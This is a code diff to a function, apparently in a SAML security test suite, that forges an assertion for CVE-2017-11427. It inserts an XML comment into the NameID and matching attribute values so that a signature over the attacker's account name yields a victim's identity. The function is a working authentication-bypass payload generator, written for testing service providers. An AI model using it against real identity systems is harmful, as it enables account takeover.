@@ -269,16 +269,18 @@ def _failure_status(root: etree._Element) -> None:
 
 
 def _comment_in_name_id(m: Material, evil: str) -> etree._Element:
-    """CVE-2017-11427: <NameID>victim@contoso.com<!---->.evil.example</NameID> signs the same
-    under exclusive c14n; an SP that reads only the first text node signs in the victim."""
+    """CVE-2017-11427: the IdP signs the attacker's own account, victim@contoso.com.evil.example;
+    the attacker inserts a comment, victim@contoso.com<!---->.evil.example, which exclusive c14n
+    ignores, so the signature still verifies; an SP that reads only the first text node of the
+    NameID or of an identity attribute signs in the victim."""
     root = parse(m)
-    node = name_id(root)
-    victim = node.text or ""
-    node.text = victim
-    comment = etree.Comment("")
-    comment.tail = ".evil.example"
-    node.append(comment)
-    resign_assertion(root, m.idp_key, m.algorithm)
+    victim = (name_id(root).text or "").lower()
+    for node in [name_id(root), *root.iter(f"{{{SAML}}}AttributeValue")]:
+        if (node.text or "").lower() == victim:
+            comment = etree.Comment("")
+            comment.tail = ".evil.example"
+            node.append(comment)
+    resign_assertion(root, m.idp_key, m.algorithm)  # the IdP's signature over the attacker's name
     return root
 
 
